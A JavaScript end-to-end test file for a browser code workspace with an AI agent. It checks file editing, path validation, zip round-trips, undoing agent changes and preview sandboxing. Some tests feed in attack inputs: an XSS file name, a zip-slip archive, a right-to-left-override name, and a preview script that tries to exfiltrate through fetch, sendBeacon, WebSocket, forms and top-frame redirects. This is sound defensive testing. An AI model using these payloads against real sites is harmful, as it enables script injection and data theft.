// The files of a person: made, moved, dropped, edited, compared, taken back, packed, shown.

import assert from "node:assert/strict";
import { mkdirSync, mkdtempSync, readFileSync, writeFileSync } from "node:fs";
import { createServer } from "node:http";
import { tmpdir } from "node:os";
import { basename, join } from "node:path";
import { test } from "node:test";
import { unzipSync, zipSync } from "fflate";
import { exampleFiles } from "../support/package.mjs";
import {
  askNothing,
  checkClean,
  DONE,
  emptySession,
  finished,
  look,
  openPage,
  paths,
  run,
  site,
  workspace,
} from "./support.mjs";

/** Answers the page's question for a text. */
async function say(page, text) {
  const dialog = page.getByRole("dialog");
  await dialog.getByRole("textbox").fill(text);
  await dialog.locator("button[type=submit]").click();
}

async function drop(page, files) {
  await page.getByLabel("Add files").setInputFiles(
    files.map(([name, content]) => ({
      name,
      mimeType: "application/octet-stream",
      buffer: Buffer.from(content),
    })),
  );
}

test("files are made, edited, saved, renamed and deleted, by keyboard, too", async () => {
  const opened = await emptySession();
  const { page, close } = opened;
  await page.getByRole("button", { name: "File", exact: true }).click();
  await say(page, "src/a.js");
  const editor = page.getByLabel("Content of src/a.js", { exact: true });
  await editor.click();
  await page.keyboard.insertText("const a = 1;\n");
  await page.getByText("not saved").waitFor();
  await page.keyboard.press("Control+S");
  await page.getByText("not saved").waitFor({ state: "detached" });

  await page.getByRole("tree").focus();
  await page.keyboard.press("End");
  await page.keyboard.press("F2");
  await say(page, "lib/b.js");
  await page.locator('[data-path="lib/b.js"]').waitFor();
  assert.deepEqual(await workspace(page), [["lib/b.js", "const a = 1;\n"]]);

  await page.getByRole("tree").focus();
  await page.keyboard.press("Home");
  await page.keyboard.press("ArrowLeft");
  assert.equal(await page.locator("[aria-expanded=false]").count(), 1);
  await page.keyboard.press("Enter");
  await page.keyboard.press("F2");
  await say(page, "moved");
  await page.locator('[data-path="moved/b.js"]').waitFor();
  await page.keyboard.press("Home");
  await page.keyboard.press("Delete");
  await page.getByRole("dialog").getByRole("button", { name: "Delete" }).click();
  await page.getByRole("treeitem").first().waitFor({ state: "detached" });
  checkClean(opened);
  await close();
});

test("paths that cannot be are refused with a reason", async () => {
  const opened = await openPage();
  const { page, close } = opened;
  const refused = [
    ["../out.txt", /leads out of the workspace/],
    ["src", /is a folder/],
    ["README.md/x", /“README\.md” is a file/],
    ["//", /needs a name/],
  ];
  for (const [path, reason] of refused) {
    await page.getByRole("button", { name: "File", exact: true }).click();
    await say(page, path);
    await page.locator(".toast").filter({ hasText: reason }).waitFor();
  }
  assert.deepEqual(await workspace(page), Object.entries(exampleFiles()));
  checkClean(opened);
  await close();
});

test("a zip goes out and comes back, binary files and hostile names included", async () => {
  const opened = await emptySession();
  const { page, close } = opened;
  const binary = Uint8Array.from({ length: 4096 }, (_, at) => (at * 7) % 256);
  const files = {
    "bytes.bin": binary,
    "deep/er/text.txt": new TextEncoder().encode("Grüße\n"),
    "<img src=x onerror=alert(1)>.md": new TextEncoder().encode("# x\n"),
    "a\u202etxt.exe": new TextEncoder().encode("x"),
    __proto__: new TextEncoder().encode("p"),
  };
  const packed = new Map(Object.entries(files));
  await drop(page, [["project.zip", zipSync(files)]]);
  await page.locator('[data-path="bytes.bin"]').click();
  await page.getByText("A binary file of 4,096 bytes.").waitFor();
  const [download] = await Promise.all([
    page.waitForEvent("download"),
    page.getByRole("button", { name: "Download zip" }).click(),
  ]);
  const back = unzipSync(readFileSync(await download.path()));
  assert.deepEqual(Object.keys(back).sort(), [...packed.keys()].sort());
  for (const [path, bytes] of packed) assert.deepEqual(new Uint8Array(back[path]), bytes, path);
  assert.equal(await page.locator("img").count(), 0);

  await drop(page, [["no.zip", "this is none"]]);
  await page
    .locator(".toast")
    .filter({ hasText: /the archive cannot be read/ })
    .waitFor();
  await drop(page, [["evil.zip", zipSync({ "../../up.txt": new Uint8Array(1) })]]);
  await page
    .locator(".toast")
    .filter({ hasText: /leads out of the workspace/ })
    .waitFor();
  assert.equal((await paths(page)).length, packed.size);
  checkClean(opened);
  await close();
});

test("what is dropped onto the files is there, at the place that it came from", async () => {
  const opened = await emptySession();
  const { page, close } = opened;
  await page.evaluate(() => {
    const transfer = new DataTransfer();
    transfer.items.add(new File(["# Dropped\n"], "dropped.md"));
    transfer.items.add(new File([new Uint8Array([0, 1, 255])], "dropped.bin"));
    const drop = new DragEvent("drop", { dataTransfer: transfer, bubbles: true, cancelable: true });
    document.querySelector(".files").dispatchEvent(drop);
  });
  await page.getByText("2 files were added.").waitFor();
  await page.locator('[role=treeitem][data-path="dropped.md"]').waitFor();
  assert.deepEqual(await paths(page), ["dropped.bin", "dropped.md"]);
  assert.equal(new Map(await workspace(page)).get("dropped.md"), "# Dropped\n");
  checkClean(opened);
  await close();
});

test("a folder that is dropped comes with all that is in it", async () => {
  const opened = await emptySession();
  const { page, close } = opened;
  const folder = mkdtempSync(join(tmpdir(), "dropped-"));
  mkdirSync(join(folder, "deep/er"), { recursive: true });
  writeFileSync(join(folder, "deep/er/a.txt"), "a\n");
  writeFileSync(join(folder, "b.bin"), new Uint8Array([0, 1, 255]));
  const devices = await page.context().newCDPSession(page);
  const { x, y } = await page.locator(".files").boundingBox();
  const data = { items: [], files: [folder], dragOperationsMask: 1 };
  for (const type of ["dragEnter", "dragOver", "drop"]) {
    await devices.send("Input.dispatchDragEvent", { type, x: x + 60, y: y + 200, data });
  }
  await page.getByText("2 files were added.").waitFor();
  const name = basename(folder);
  await page.locator(`[role=treeitem][data-path="${name}/deep/er/a.txt"]`).waitFor();
  assert.deepEqual(await paths(page), [`${name}/b.bin`, `${name}/deep/er/a.txt`]);
  checkClean(opened);
  await close();
});

test("one hunk is taken back, the other stays; then the file, then all", async () => {
  const opened = await openPage();
  const { page, close } = opened;
  await askNothing(page);
  await run(page);
  await finished(page, "Done");
  await run(page, "Add a comment");
  await page.locator(".said").nth(1).waitFor();
  await finished(page, "Done");
  await run(page, "Begin a changelog");
  await page.locator('[role=treeitem][data-path="CHANGELOG.md"]').waitFor(DONE);
  await finished(page, "Done");
  await look(page, "Changes");
  const diff = page.locator('.diff[data-path="src/discount.js"]');
  await diff.locator(".hunk").nth(1).waitFor();
  assert.equal(await diff.locator(".hunk").count(), 2);
  await diff.getByRole("button", { name: /Take back the change at line 11/ }).click();
  await diff.locator(".hunk").nth(1).waitFor({ state: "detached" });
  let text = new Map(await workspace(page)).get("src/discount.js");
  const original = exampleFiles()["src/discount.js"];
  assert.equal(text, original.replace("quantity > from", "quantity >= from"));

  await page.getByLabel("Since").selectOption({ index: 2 });
  await page.getByText("2 files", { exact: true }).waitFor();
  await page.getByLabel("Since").selectOption({ index: 0 });
  await page.getByRole("button", { name: "Take back src/discount.js" }).click();
  await diff.waitFor({ state: "detached" });
  text = new Map(await workspace(page)).get("src/discount.js");
  assert.equal(text, original);
  await page.getByRole("button", { name: "Take all back" }).click();
  await page.getByRole("dialog").getByRole("button", { name: "Take back" }).click();
  await page.getByText("Nothing has changed.").waitFor();
  assert.deepEqual(await workspace(page), Object.entries(exampleFiles()));
  checkClean(opened);
  await close();
});

test("what is typed and not saved outlives the agent's change, and the person chooses", async () => {
  const opened = await openPage();
  const { page, close } = opened;
  await run(page);
  await page.getByRole("alertdialog").waitFor(DONE);
  await page.getByRole("button", { name: "Show as it is" }).click();
  await page.locator(".cm-line").filter({ hasText: "quantity > from" }).waitFor();
  await page.getByLabel("Content of src/discount.js", { exact: true }).click();
  await page.keyboard.press("Control+Home");
  await page.keyboard.insertText("// mine\n");
  await page.getByRole("button", { name: "Allow once" }).click();
  await page.getByText("The file has changed meanwhile.").waitFor(DONE);
  await page.locator(".cm-line").filter({ hasText: "// mine" }).waitFor();
  await page.getByRole("button", { name: "Take the new one" }).click();
  await page.locator(".cm-line").filter({ hasText: "quantity >= from" }).waitFor();
  assert.equal(await page.locator(".cm-line").filter({ hasText: "// mine" }).count(), 0);
  await finished(page, "Done");
  checkClean(opened);
  await close();
});

test("the preview runs a page with its files, and gets nowhere else", async () => {
  const asked = [];
  const server = createServer((request, response) => {
    asked.push(request.url);
    response.writeHead(200, { "access-control-allow-origin": "*" }).end("caught");
  });
  await new Promise((resolve) => server.listen(0, "127.0.0.1", resolve));
  const out = `http://127.0.0.1:${server.address().port}`;
  const opened = await emptySession();
  const { page, problems, close } = opened;
  const before = site.asked.length;
  const html = `<!doctype html><link rel=stylesheet href=style.css>
    <style>#said { margin-left: 7px }</style>
    <p id=said>no script</p><img src=${out}/img><link rel=prefetch href=${out}/prefetch>
    <script type=module src="./src/main.js"></script>`;
  const main = `import { word } from "./word.js";
    const tried = [];
    const note = (name, work) => { try { work(); tried.push(name); } catch {} };
    note("parent", () => parent.document.title);
    note("top", () => top.document.title);
    note("storage", () => localStorage.length);
    note("cookie", () => document.cookie.length);
    try { await fetch("${out}/fetch"); tried.push("fetch"); } catch {}
    try { await fetch("${site.url}page.js"); tried.push("own"); } catch {}
    navigator.sendBeacon?.("${out}/beacon");
    try { new WebSocket("ws://127.0.0.1:${server.address().port}/ws"); } catch {}
    try { await import("${out}/module.js"); tried.push("import"); } catch {}
    const form = document.createElement("form");
    form.action = "${out}/form"; document.body.append(form); form.submit();
    open("${out}/open");
    const frame = document.createElement("iframe");
    frame.src = "${out}/frame"; document.body.append(frame);
    document.getElementById("said").textContent = word + " " + tried.join(",");
    top.location = "${out}/top";
    location = "${out}/location";`;
  await drop(page, [["index.html", html]]);
  const files = {
    "style.css": "#said { color: rgb(1, 2, 3) }",
    "src/main.js": main,
    "src/word.js": 'export const word = "ran";',
  };
  const bytes = Object.entries(files).map(([path, text]) => [path, Buffer.from(text)]);
  await drop(page, [["rest.zip", zipSync(Object.fromEntries(bytes))]]);
  await look(page, "Preview");
  const shown = page.frameLocator("iframe[title=Preview]").frameLocator("iframe");
  const said = shown.locator("#said");
  await said.filter({ hasText: "ran" }).waitFor(DONE);
  assert.equal(await said.textContent(), "ran ");
  assert.equal(await said.evaluate((node) => getComputedStyle(node).color), "rgb(1, 2, 3)");
  assert.equal(await said.evaluate((node) => getComputedStyle(node).marginLeft), "7px");
  await page.waitForTimeout(500);
  assert.deepEqual(asked, [], "nothing got out");
  assert.deepEqual(
    site.asked.slice(before).filter((path) => !/\.(js|html|wasm)$/.test(path)),
    [],
  );
  assert.equal(new URL(page.url()).origin + "/", site.url);
  // The browser says what it has stopped.
  assert.ok(problems.length > 0);
  assert.ok(problems.every((problem) => !problem.includes("inline style")));
  await close();
  server.closeAllConnections();
  server.close();
});
